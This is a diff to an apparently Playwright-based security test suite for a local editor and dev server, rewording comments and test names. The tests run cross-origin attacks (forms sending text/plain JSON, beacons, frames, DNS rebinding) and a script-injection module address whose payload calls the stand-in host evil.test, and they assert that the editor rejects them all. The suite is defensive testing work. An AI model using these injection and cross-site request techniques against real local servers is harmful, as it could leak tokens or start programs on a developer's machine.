@@ -7,8 +7,8 @@ import { apiPath, editorPath, endpoints, tokenHeader } from '../../editor/api.ts
 import { findBrowser, playwrightArguments } from '../../scripts/findBrowser.ts';
 import { type Started, type StartedEditor, startDevServer, startEditor } from '../tools/servers.ts';
 
-// Another site, open in the same browser as the editor: a server on another port, under the name of this computer
-// (the browser calls that same-site), under its number, and under a name of its own (cross-site).
+// Another site, open in the same browser as the editor: a server on another port, as localhost (which browsers call same-site),
+// as 127.0.0.1, and with another name (cross-site).
 let place: string;
 let content: string;
 let editor: StartedEditor;
@@ -21,7 +21,7 @@ test.use({
   launchOptions: {
     executablePath: findBrowser(),
     args: [
-      // What newer browsers ask their users before a site may reach this computer: not all browsers do.
+      // Disables the permission prompt of newer browsers for local network access, because not all browsers have one.
       ...playwrightArguments('LocalNetworkAccessChecks'),
       '--host-resolver-rules=MAP *.test 127.0.0.1',
     ],
@@ -30,7 +30,7 @@ test.use({
 
 const pages = (page: Page) => page.getByRole('table', { name: 'Pages' });
 
-// What LAUNCH_EDITOR names is what `/__open-in-editor` starts.
+// `/__open-in-editor` starts the program in LAUNCH_EDITOR.
 const started = () => readFile(path.join(place, 'started'), 'utf8').catch(() => '');
 
 test.beforeAll(async () => {
@@ -58,7 +58,7 @@ test.afterAll(async () => {
   await rm(place, { recursive: true, force: true });
 });
 
-/** Every file below a folder of documents, with what it holds. */
+/** Every file below a folder of documents, with its content. */
 async function filesOf(folder: string): Promise<Record<string, string>> {
   const entries = await readdir(folder, { recursive: true, withFileTypes: true });
   const files = entries.filter((entry) => entry.isFile());
@@ -69,7 +69,7 @@ async function filesOf(folder: string): Promise<Record<string, string>> {
   return Object.fromEntries(await Promise.all(texts));
 }
 
-/** What the server answers to a browser, attack by attack. */
+/** Collects the server's responses, by attack. */
 function listen(context: BrowserContext, server: Started) {
   const answers: Promise<{ what: string; status: number; body: string }>[] = [];
   const port = new URL(server.origin).port;
@@ -77,20 +77,20 @@ function listen(context: BrowserContext, server: Started) {
     if (new URL(response.url()).port !== port) return;
     const request = response.request();
     const what = `${request.method()} ${request.resourceType()} ${response.url()}`;
-    // Bodies that the browser throws away unread are of no use to anyone.
+    // The browser may discard bodies unread, which does not matter.
     const body = response.text().catch(() => '');
     answers.push(body.then((text) => ({ what, status: response.status(), body: text })));
   });
   return { all: () => Promise.all(answers) };
 }
 
-// The module address that once put a script into the editor's page.
+// A module address that once injected a script into the editor's page.
 const script = (mark: string) =>
   `"><script>fetch("http://evil.test:${foreignPort}/${mark}")</script><x y=".js`;
 const moduleAttack = () => `/src/theme/tokens.ts?${encodeURIComponent(script('ran'))}`;
 
 /**
- * Everything that a page can ask of another server, run in that page; what it found out or brought in, attack by attack.
+ * Runs in the attacker's page: everything that a page can request from another server. Returns what it could read or inject.
  */
 async function attack(page: Page, target: string): Promise<string[]> {
   const paths = [
@@ -105,7 +105,7 @@ async function attack(page: Page, target: string): Promise<string[]> {
   return page.evaluate(
     async ({ target, paths, editorPath, tokenHeader }) => {
       const got: string[] = [];
-      // An attack is over when the browser reports it, at the latest after some seconds.
+      // An attack ends when the browser reports the result, or after a few seconds.
       const over = (start: (done: (what?: string) => void) => void, name: string) =>
         new Promise<void>((resolve) => {
           const done = (what?: string) => {
@@ -119,7 +119,7 @@ async function attack(page: Page, target: string): Promise<string[]> {
         over(
           (done) => {
             const made = document.createElement(tag);
-            // A frame tells of its load whatever it holds; the status of its answer is looked at outside.
+            // A frame fires "load" whatever its content. The status of its response is checked outside.
             const tells = !['iframe', 'object', 'embed'].includes(tag);
             made.onload = () => done(tells ? 'loaded' : undefined);
             made.onerror = () => done();
@@ -151,7 +151,7 @@ async function attack(page: Page, target: string): Promise<string[]> {
           document.body.append(frame);
           const made = document.createElement('form');
           Object.assign(made, { action, method, enctype, target: name });
-          // As text/plain this is JSON.
+          // Sent as text/plain, this is valid JSON.
           const field = document.createElement('input');
           field.name = '{"name":"visit.json","document":{"a":"';
           field.value = '"}}';
@@ -233,13 +233,13 @@ async function attack(page: Page, target: string): Promise<string[]> {
   );
 }
 
-// Each name of this computer from its own other port, which a browser calls same-site, and another site.
+// Each local name from another port of the same name (same-site), and another site.
 for (const [name, own] of [
   ['localhost', 'localhost'],
   ['127.0.0.1', '127.0.0.1'],
   ['evil.test', '127.0.0.1'],
 ] as const) {
-  test(`a page of ${name} on another port reads nothing of ${own}, changes nothing and starts nothing`, {
+  test(`a page of ${name} on another port cannot read, change or start anything on ${own}`, {
     tag: '@slow',
   }, async ({ context, page }) => {
     const before = await filesOf(content);
@@ -247,7 +247,7 @@ for (const [name, own] of [
     await page.goto(`http://${name}:${foreignPort}/`);
     expect(await attack(page, `http://${own}:${editor.address.port}`)).toEqual([]);
     const answers = await heard.all();
-    // Of the rest a browser hands out nothing, not even the status.
+    // The browser does not report the other responses, not even their status.
     expect(answers.length).toBeGreaterThan(40);
     expect(answers.filter(({ status }) => status !== 403)).toEqual([]);
     expect(answers.filter(({ body }) => body.includes(editor.token))).toEqual([]);
@@ -263,7 +263,7 @@ for (const [name, own] of [
 }
 
 for (const name of ['localhost', 'evil.test']) {
-  test(`a page of ${name} on another port is refused whatever it asks of the editor`, {
+  test(`a page of ${name} on another port is rejected by every endpoint of the editor`, {
     tag: name === 'evil.test' ? [] : '@slow',
   }, async ({ context, page }) => {
     const before = await filesOf(content);
@@ -277,7 +277,7 @@ for (const name of ['localhost', 'evil.test']) {
         const got: string[] = [];
         for (const endpoint of endpoints) {
           navigator.sendBeacon(target + endpoint, body);
-          // As text/plain this is JSON.
+          // Sent as text/plain, this is valid JSON.
           const frame = document.createElement('iframe');
           frame.name = endpoint;
           const form = document.createElement('form');
@@ -305,7 +305,7 @@ for (const name of ['localhost', 'evil.test']) {
       { target: editor.origin + apiPath, endpoints: names, tokenHeader },
     );
     expect(read).toEqual([]);
-    // Of what script asked for, a browser does not even hand out the status.
+    // The browser does not report the status of some script requests.
     const answers = await heard.all();
     for (const endpoint of names) {
       const own = answers.filter(({ what }) => what.endsWith(apiPath + endpoint));
@@ -316,12 +316,12 @@ for (const name of ['localhost', 'evil.test']) {
   });
 }
 
-test('a name of another site that leads to this computer gets no answer (DNS rebinding)', async ({
+test('rejects another site’s name that resolves to this computer (DNS rebinding)', async ({
   page,
 }) => {
   const before = await filesOf(content);
   const origin = `http://rebound.test:${editor.address.port}`;
-  // The page came from the other site's own server, before the name led here.
+  // The page was loaded from the other site's server before its name resolved to this computer.
   await page.route(`${origin}/attack`, (route) =>
     route.continue({ url: `http://127.0.0.1:${foreignPort}/` }),
   );
@@ -360,7 +360,7 @@ test('a name of another site that leads to this computer gets no answer (DNS reb
   expect(await started()).toBe('');
 });
 
-test('a link of another site leads to a page that explains how to open the editor', async ({
+test('a link on another site leads to a page that explains how to open the editor', async ({
   page,
 }) => {
   await page.goto(`http://evil.test:${foreignPort}/`);
@@ -371,14 +371,14 @@ test('a link of another site leads to a page that explains how to open the edito
   await expect(page.getByText('copy the address from the terminal')).toBeVisible();
 });
 
-test('the printed address opens the editor in its tab and others, and the token leaves the address bar', async ({
+test('the printed address opens the editor in any tab, and the token is removed from the address bar', async ({
   context,
   page,
 }) => {
   const { origin } = editor.address;
   await page.goto(origin + editorPath);
   await expect(page.getByRole('alert')).toContainText('Open the full address');
-  // Put into a tab that is open.
+  // Entered in an open tab.
   await page.goto(editor.address.href);
   await expect(pages(page)).toBeVisible();
   expect(page.url()).toBe(origin + editorPath);
@@ -388,7 +388,7 @@ test('the printed address opens the editor in its tab and others, and the token 
   await expect(pages(another)).toBeVisible();
 });
 
-test('a key of another start opens nothing, and the page shows what to do', {
+test('a token from an earlier start is rejected, and the page explains what to do', {
   tag: '@slow',
 }, async ({ page }) => {
   await page.goto(`${editor.address.origin}${editorPath}#token=${'x'.repeat(43)}`);
@@ -397,7 +397,7 @@ test('a key of another start opens nothing, and the page shows what to do', {
   await expect(pages(page)).toBeVisible();
 });
 
-test('the editor and its canvas work under its policy without a complaint, and without a socket', async ({
+test('the editor and its canvas work under its policy without warnings or WebSockets', async ({
   page,
 }) => {
   const complaints: string[] = [];
@@ -411,10 +411,10 @@ test('the editor and its canvas work under its policy without a complaint, and w
   await pages(page).getByRole('link').first().click();
   const canvas = page.frameLocator('iframe').first();
   await expect(canvas.locator('h1')).toBeVisible();
-  // A browser's own h1 has 32 px.
+  // The browser's default for h1 is 32 px.
   await expect(canvas.locator('h1')).not.toHaveCSS('font-size', '32px');
   expect({ complaints, sockets }).toEqual({ complaints: [], sockets: [] });
-  // Script that gets into the editor or its canvas all the same does not run.
+  // Injected scripts do not run in the editor or its canvas.
   const ran = await page.evaluate(
     () =>
       new Promise((resolve) => {
@@ -439,7 +439,7 @@ test('the editor and its canvas work under its policy without a complaint, and w
   expect(ran).toBeUndefined();
 });
 
-test('the dev server starts a program for its own page, and for no other site', {
+test('the dev server starts a program only for its own page', {
   tag: '@slow',
 }, async ({ page }) => {
   const dev = await startDevServer(content);
